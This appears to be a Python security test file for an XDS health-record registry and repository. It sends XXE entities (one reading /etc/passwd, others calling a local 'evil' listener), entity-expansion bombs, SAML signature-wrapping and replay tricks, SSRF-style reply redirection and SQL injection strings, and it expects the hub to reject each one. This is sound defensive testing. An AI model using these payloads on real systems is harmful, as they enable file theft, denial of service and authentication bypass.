"""Rows 66 to 78: what reaches the registry and its repository by SOAP."""

import socket
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from lxml import etree

from hub_kernel.settings import IdentitySettings
from tests.hostile.arena import Answer, Trial
from tests.hostile.model import Case
from tests.support.assertions import Wanted, assertion, envelope, signed
from tests.support.waiting import eventually
from tests.support.wrappings import WRAPPINGS, Pieces
from tests.xds_registry import wire
from tests.xds_registry.provided import (
    BOUNDARY,
    CONTENT_TYPE,
    ITI41,
    Sent,
    body,
    described,
    package,
)
from tests.xds_registry.samples import entry, submission
from tests.xds_registry.submitted import ABC, ITI42, related, request
from xds_registry.model import AssociationType, Code, DocumentEntry, Submission

REGISTRY, REPOSITORY = "/xds/registry", "/xds/repository"
SOAP = "application/soap+xml; charset=UTF-8"
_GLOBAL_ID = """
    SELECT link_log.global_id FROM link_log
    JOIN patient_identifier ON patient_identifier.id = link_log.identifier_id
    WHERE patient_identifier.value = ? ORDER BY link_log.id DESC LIMIT 1
"""
NOBODY = f"nobody^^^&{IdentitySettings().global_oid}&ISO"


# ---- what is sent, and what came of it ----


def patient(trial: Trial, number: int = 0) -> str:
    """The affinity domain's identifier of whoever has this trial's images; 0: the warm-up's."""
    found: list[tuple[Any, ...]] = []

    def known() -> bool:
        found[:] = trial.arena.rows(_GLOBAL_ID, f"GEHEIMNUMMER{number}")
        return bool(found)

    eventually(known)  # the patient index has heard of the patient
    return f"{found[0][0]}^^^&{IdentitySettings().global_oid}&ISO"


def document(cx: str, **changes: Any) -> DocumentEntry:
    """A document that nobody has sent yet."""
    plain = {"patient_id": cx, "linked_identifier": cx, "source_patient_id": cx}
    return entry(str(uuid.uuid4()), **{**plain, "sha1": ABC, "size": 3, **changes})


def said(answer: Answer) -> str:
    """The codes of a registry's answer, or its HTTP status and the code of its fault."""
    root = etree.fromstring(answer.body)
    fault = root.findtext(f".//{{{wire.SOAP}}}Fault/{{{wire.SOAP}}}Code/{{{wire.SOAP}}}Value")
    if fault is not None:
        return f"fault {fault.partition(':')[2]}, HTTP {answer.status}"
    inside = root.find(f"{{{wire.SOAP}}}Body")
    assert inside is not None
    return ", ".join(dict.fromkeys(wire.errors(inside[0]))) or wire.status(inside[0])


def register(trial: Trial, what: Submission) -> str:
    return said(trial.post(REGISTRY, wire.envelope(request(what), ITI42), SOAP))


def question(cx: str, *more: tuple[str, str]) -> bytes:
    asked = (("$XDSDocumentEntryPatientId", f"'{cx}'"), ("$XDSDocumentEntryStatus", wire.APPROVED))
    return wire.query(wire.FIND_DOCUMENTS, (*asked, *more), "ObjectRef")


def found(trial: Trial, message: bytes) -> list[str]:
    """The documents that a question finds."""
    answer = trial.post(REGISTRY, message, SOAP)
    inside = etree.fromstring(answer.body).find(f"{{{wire.SOAP}}}Body")
    assert inside is not None
    assert wire.status(inside[0]) == "Success", said(answer)
    return wire.objects(inside[0], "ObjectRef")


def registered(trial: Trial, *entries: DocumentEntry) -> int:
    """How many of these documents the registry holds."""
    statement = "SELECT count(*) FROM document_entry WHERE unique_id = ?"
    return sum(trial.arena.rows(statement, one.unique_id)[0][0] for one in entries)


@contextmanager
def nobody_calls() -> Iterator[str]:
    """An address of the attacker's own; whoever calls there has been led astray."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(0)
        yield f"http://127.0.0.1:{listening.getsockname()[1]}/evil"
        try:
            listening.accept()[0].close()
        except BlockingIOError:
            return
    raise AssertionError("the hub called the attacker's address")


# ---- 66 to 68: XML ----


def with_type(declaration: str, text: str = "x") -> Callable[[Trial], str]:
    """A document type declaration before an envelope; `@` in it is the attacker's address."""

    def attack(trial: Trial) -> str:
        with nobody_calls() as address:
            begin = f"<!DOCTYPE e [{declaration.replace('@', address)}]>"
            inside = (
                f'<s:Envelope xmlns:s="{wire.SOAP}"><s:Body><q>{text}</q></s:Body></s:Envelope>'
            )
            return said(trial.post(REGISTRY, (begin + inside).encode(), SOAP))

    return attack


def raw(data: bytes) -> Callable[[Trial], str]:
    return lambda trial: said(trial.post(REGISTRY, data, SOAP))


def _in_envelope(inside: bytes) -> bytes:
    return b'<s:Envelope xmlns:s="%s"><s:Body>%s</s:Body></s:Envelope>' % (
        wire.SOAP.encode(),
        inside,
    )


LAUGHS = '<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
)
QUADRATIC = f'<!ENTITY x "{"x" * 100_000}">'
DEEP = _in_envelope(b"<a>" * 100_000)
WIDE = _in_envelope(b"<a " + b" ".join(b'a%d="1"' % n for n in range(100_000)) + b"/>")


# ---- 69, 70: MTOM ----


def provide(trial: Trial, href: str, parts: tuple[tuple[str, bytes], ...] = ()) -> str:
    """ITI-41 of a document that is said to lie at `href`."""
    one = Sent(described(patient(trial), str(uuid.uuid4())))
    what = submission(one.entry)
    root = wire.envelope(body(what, {one.entry.entry_uuid: href}), ITI41)
    answer = said(trial.post(REPOSITORY, package(root, parts), CONTENT_TYPE))
    assert registered(trial, one.entry) == 0
    return answer


def included(scheme: str) -> Callable[[Trial], str]:
    def attack(trial: Trial) -> str:
        with nobody_calls() as address:
            return provide(trial, address if scheme == "http" else scheme)

    return attack


def many_parts(trial: Trial) -> str:
    return provide(trial, "cid:p1@x", tuple((f"p{n}@x", b"x") for n in range(10_000)))


def endless_part(trial: Trial) -> str:
    """A package whose last part is never ended."""
    head = f"--{BOUNDARY}\r\nContent-Type: application/xop+xml\r\nContent-ID: <root@test>\r\n\r\n"
    return said(trial.post(REPOSITORY, head.encode() + b"<a>" + b" " * 100_000, CONTENT_TYPE))


# ---- 71, 72: assertions ----


def vouched(trial: Trial, message: bytes) -> str:
    """Send a question with an assertion, and no other proof."""
    return f"HTTP {trial.post(REGISTRY, message, SOAP, proven=False).status}"


def asks(trial: Trial) -> bytes:
    """The question of an assertion's holder."""
    inside = etree.fromstring(question(patient(trial))).find(f"{{{wire.SOAP}}}Body")
    assert inside is not None
    return etree.tostring(inside[0])


def wanted(**changes: Any) -> Wanted:
    return Wanted(datetime.now(UTC), **{"assertion_id": f"_{uuid.uuid4()}", **changes})


def wrapped(shape: Callable[[Pieces], None]) -> Callable[[Trial], str]:
    def attack(trial: Trial) -> str:
        pieces = Pieces(wanted(), trial.arena.idp, asks(trial))
        shape(pieces)
        return vouched(trial, etree.tostring(pieces.root))

    return attack


def comment_in_name(trial: Trial) -> str:
    """A comment cuts the signed name in two for those who read its first half."""
    message = envelope(signed(assertion(wanted()), trial.arena.idp), body=asks(trial))
    answer = vouched(trial, message.replace(b"li.ming", b"li.<!---->ming"))
    asked_by = "SELECT subject_id FROM audit_record WHERE message LIKE ? ORDER BY sequence DESC"
    names = trial.arena.rows(asked_by, f'%"{trial.address}"%')
    return f"{answer} for {names[0][0]}"


def asserted(**changes: Any) -> Callable[[Trial], str]:
    def attack(trial: Trial) -> str:
        said_so = signed(assertion(wanted(**changes)), trial.arena.idp)
        return vouched(trial, envelope(said_so, body=asks(trial)))

    return attack


def unsigned(trial: Trial) -> str:
    return vouched(trial, envelope(assertion(wanted()), body=asks(trial)))


def replayed(trial: Trial) -> str:
    message = envelope(signed(assertion(wanted()), trial.arena.idp), body=asks(trial))
    return f"{vouched(trial, message)}, then {vouched(trial, message)}"


# ---- 73 to 78: addresses, metadata, queries ----


def reply_elsewhere(trial: Trial) -> str:
    with nobody_calls() as address:
        asked = etree.fromstring(question(patient(trial)))
        header = asked.find(f"{{{wire.SOAP}}}Header")
        assert header is not None
        for name in ("ReplyTo", "FaultTo"):
            to = etree.SubElement(header, f"{{{wire.WSA}}}{name}")
            etree.SubElement(to, f"{{{wire.WSA}}}Address").text = address
        return f"{said(trial.post(REGISTRY, etree.tostring(asked), SOAP))}, answered here"


def other_content(**changes: Any) -> Callable[[Trial], str]:
    """A uniqueId that is taken, with other bytes."""

    def attack(trial: Trial) -> str:
        first = document(patient(trial))
        assert register(trial, submission(first)) == "Success"
        again = document(first.patient_id, unique_id=first.unique_id, **changes)
        answer = register(trial, submission(again))
        assert registered(trial, first) == 1
        return answer

    return attack


def of_patient(cx: str) -> Callable[[Trial], str]:
    def attack(trial: Trial) -> str:
        one = document(cx)
        answer = register(trial, submission(one))
        assert registered(trial, one) == 0
        return answer

    return attack


def injected(text: str) -> Callable[[Trial], str]:
    """A value that means something to SQL matches nothing but itself."""

    def attack(trial: Trial) -> str:
        cx = patient(trial)
        one = document(cx)
        assert register(trial, submission(one)) == "Success"
        quoted = text.replace("'", "''")
        code = ("$XDSDocumentEntryClassCode", f"('{quoted}^^1.2.3')")
        assert found(trial, question(cx)), "the control: nothing is found without it"
        assert found(trial, question(cx, code)) == []
        assert found(trial, question(quoted)) == []
        assert registered(trial, one) == 1
        return "matches itself alone"

    return attack


def replace_deprecated(trial: Trial) -> str:
    old = document(patient(trial))
    assert register(trial, submission(old)) == "Success"
    first, second = document(old.patient_id), document(old.patient_id)
    replaces = AssociationType.REPLACES
    assert register(trial, related(replaces, submission(first), old)) == "Success"
    answer = register(trial, related(replaces, submission(second), old))
    assert registered(trial, second) == 0
    return answer


def replace_foreign(trial: Trial) -> str:
    """A document of one patient is to replace one of another."""
    assert trial.store(trial.dataset()) == "stored"
    theirs = document(patient(trial))
    assert register(trial, submission(theirs)) == "Success"
    own = document(patient(trial, trial.number))
    answer = register(trial, related(AssociationType.REPLACES, submission(own), theirs))
    assert registered(trial, own) == 0
    return answer


def one_bad_in_ten(trial: Trial) -> str:
    ten = [document(patient(trial)) for _ in range(10)]
    ten[7] = replace(ten[7], class_code=Code("made-up", "1.2.3", "Made up"))
    answer = register(trial, submission(*ten))
    return f"{answer}, {registered(trial, *ten)} kept"


FAULT = "fault Sender, HTTP 400"
REGISTRY_CASES = (
    Case(66, "external DTD", FAULT, with_type('<!ENTITY % d SYSTEM "@">%d;')),
    Case(66, "external entity", FAULT, with_type('<!ENTITY x SYSTEM "@">', "&x;")),
    Case(66, "file", FAULT, with_type('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")),
    Case(67, "billion laughs", FAULT, with_type(LAUGHS, "&a9;")),
    Case(67, "quadratic", FAULT, with_type(QUADRATIC, "&x;" * 50_000)),
    Case(68, "depth", FAULT, raw(DEEP)),
    Case(68, "attributes", FAULT, raw(WIDE)),
    Case(69, "http", FAULT, included("http")),
    Case(69, "file", FAULT, included("file:///etc/passwd")),
    Case(69, "missing", FAULT, included("cid:nowhere@x")),
    Case(70, "10,000 parts", FAULT, many_parts),
    Case(70, "no end", FAULT, endless_part),
    *(Case(71, shape.__name__, "HTTP 401", wrapped(shape)) for shape in WRAPPINGS),
    Case(71, "comment", "HTTP 200 for li.ming@idp", comment_in_name),
    Case(72, "unsigned", "HTTP 401", unsigned),
    Case(72, "expired", "HTTP 401", asserted(not_on_or_after=timedelta(hours=-1))),
    Case(72, "audience", "HTTP 401", asserted(audience="https://elsewhere.test")),
    Case(72, "replay", "HTTP 200, then HTTP 401", replayed),
    Case(73, "reply to", "Success, answered here", reply_elsewhere),
    Case(74, "hash", "XDSNonIdenticalHash", other_content(sha1="f" * 40)),
    Case(75, "patient", "XDSUnknownPatientId", of_patient(NOBODY)),
    Case(75, "domain", "XDSUnknownPatientId", of_patient("1^^^&1.2.3.99&ISO")),
    Case(76, "or", "matches itself alone", injected("' OR '1'='1")),
    Case(76, "union", "matches itself alone", injected("') UNION SELECT 1 --")),
    Case(77, "deprecated", "XDSRegistryDeprecatedDocumentError", replace_deprecated),
    Case(77, "foreign", "XDSPatientIdDoesNotMatch", replace_foreign),
    Case(78, "one in ten", "XDSRegistryMetadataError, 0 kept", one_bad_in_ten),
)  # fmt: skip
